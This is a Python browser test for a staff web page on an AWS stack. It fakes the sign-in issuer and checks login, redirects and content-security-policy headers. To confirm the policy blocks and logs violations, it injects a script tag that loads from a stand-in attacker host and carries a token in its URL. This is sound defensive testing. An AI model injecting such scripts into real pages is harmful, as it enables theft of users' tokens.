"""The desk that the stack itself serves, in a browser, with an issuer that the test plays."""

import json
import time
from urllib.parse import parse_qs, urlencode, urlsplit

import pytest

from local import tokens
from operations.http_api import HttpApi


@pytest.fixture
def played(failing, aws):
    """Open a page for which the test answers the requests to the issuer. Returns it, and those requests."""
    asked = {}

    def authorize(route):
        asked["authorize"] = {
            name: value[0] for name, value in parse_qs(urlsplit(route.request.url).query).items()
        }
        back = urlencode({"code": "a-code", "state": asked["authorize"]["state"]})
        to = f"{asked['authorize']['redirect_uri']}?{back}"
        route.fulfill(status=302, headers={"Location": to})

    def token(route):
        asked["token"] = parse_qs(route.request.post_data)
        claims = {"sub": "anna", "cognito:groups": ["owners"], "custom:locations": "*"}
        claims["nonce"] = asked["authorize"]["nonce"]
        route.fulfill(
            headers={"Access-Control-Allow-Origin": "*", "Content-Type": "application/json"},
            body=json.dumps({"id_token": tokens.token_of(aws, claims)}),
        )

    failing.route(f"{tokens.DESK['authorize']}?*", authorize)
    failing.route(tokens.DESK["token"], token)
    return failing, asked


def _logged(aws):
    """Read the log of the desk's function."""
    group = aws.outputs["ServeDeskLogGroupName"]
    pages = aws.logs.get_paginator("filter_log_events").paginate(logGroupName=group)
    return [event["message"] for page in pages for event in page["events"]]


def test_staff_sign_in_and_use_the_api_of_the_stack(aws, played):
    page, asked = played
    address = f"{HttpApi.of(aws, 'CustomerApiUrl').url}/desk/page.html"
    sizes = []
    page.on("response", lambda response: sizes.append((response.url, response.headers)))
    page.goto(address.removesuffix("/page.html"))
    page.get_by_role("heading", level=1, name="Today", exact=True).wait_for()
    assert page.locator("#who").inner_text().startswith("You are anna")
    assert asked["authorize"]["redirect_uri"] == address
    assert asked["token"]["redirect_uri"] == [address]
    assert page.url == address
    files = [headers for url, headers in sizes if url.startswith(address.rpartition("/")[0])]
    assert all("content-security-policy" in headers for headers in files[1:])
    # What the policy forbids is reported, and logged.
    page.evaluate(
        "document.head.append(Object.assign(document.createElement('script'), { src: 'https://evil.invalid/x.js?token=t' }))"
    )
    give_up_at = time.monotonic() + 30
    while not (found := [text for text in _logged(aws) if "violated" in text]):
        assert time.monotonic() < give_up_at, "no report has been logged"
        time.sleep(0.5)
    assert '"directive": "script-src-elem", "blocked": "evil.invalid"' in found[-1]
    assert "token=t" not in "".join(found)
    assert "a-code" not in "".join(_logged(aws))
